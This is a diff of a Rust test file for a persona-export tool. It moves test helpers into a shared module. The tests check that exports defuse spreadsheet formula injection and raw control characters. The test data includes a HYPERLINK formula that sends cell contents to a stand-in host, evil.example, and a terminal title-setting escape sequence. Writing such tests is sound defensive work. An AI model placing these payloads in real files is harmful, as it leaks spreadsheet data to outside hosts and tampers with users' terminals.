@@ -6,48 +6,19 @@
 //! - No export file holds a raw control character other than tab, line feed and carriage return;
 //!   the others are written as visible placeholders (json: as `\uXXXX` escapes).
 
-use std::path::Path;
+mod common;
 
-use assert_cmd::Command;
+use common::cli::personas;
+use common::workspaces::{EVERY_FORMAT, goal, persona};
 use personas::export::{ExportFormat, render, render_chain};
 use personas::import::{Mapping, import_bytes};
-use personas::model::{BuyingRole, Goal, Kind, Persona, Workspace, validate};
+use personas::model::{BuyingRole, Kind, Workspace, validate};
 use personas::store::to_ron;
 
 const HYPERLINK: &str = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")";
 
 /// What a spreadsheet runs as a formula when a cell starts with it (OWASP).
 const RISKY: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
-
-const ALL_FORMATS: [ExportFormat; 8] = [
-    ExportFormat::Markdown,
-    ExportFormat::Html,
-    ExportFormat::Svg,
-    ExportFormat::Story,
-    ExportFormat::Mermaid,
-    ExportFormat::Dot,
-    ExportFormat::Json,
-    ExportFormat::Csv,
-];
-
-fn goal(id: &str, text: &str, why: &str, metric: &str, supports: &[&str]) -> Goal {
-    Goal {
-        id: id.into(),
-        text: text.into(),
-        why: why.into(),
-        metric: metric.into(),
-        supports: supports.iter().map(|s| (*s).to_string()).collect(),
-    }
-}
-
-fn persona(id: &str, name: &str, goals: Vec<Goal>) -> Persona {
-    Persona {
-        id: id.into(),
-        name: name.into(),
-        goals,
-        ..Persona::default()
-    }
-}
 
 /// A valid workspace whose cells start with every risky character, with `'` (alone, before a
 /// risky character, doubled), and with a `'` or a risky character that is not at the start; the
@@ -314,7 +285,7 @@ fn no_export_format_writes_a_raw_control_character() {
     }
     assert!(validate(&ws).is_empty(), "{:?}", validate(&ws));
     let chain_goal = format!("=dg{payload}");
-    for format in ALL_FORMATS {
+    for format in EVERY_FORMAT {
         for (what, out) in [
             ("whole", render(&ws, format)),
             (
@@ -339,13 +310,4 @@ fn no_export_format_writes_a_raw_control_character() {
     // json keeps them as escapes, which read back as the very same text.
     let json = render(&ws, ExportFormat::Json);
     assert!(json.contains(r"\u001b]0;PWN\u0007"), "{json}");
-}
-
-fn personas(dir: &Path) -> Command {
-    let mut cmd = Command::cargo_bin("personas").expect("binary");
-    cmd.current_dir(dir)
-        .env("HOME", dir)
-        .env("XDG_CONFIG_HOME", dir.join("config"))
-        .env("XDG_DATA_HOME", dir.join("data"));
-    cmd
 }
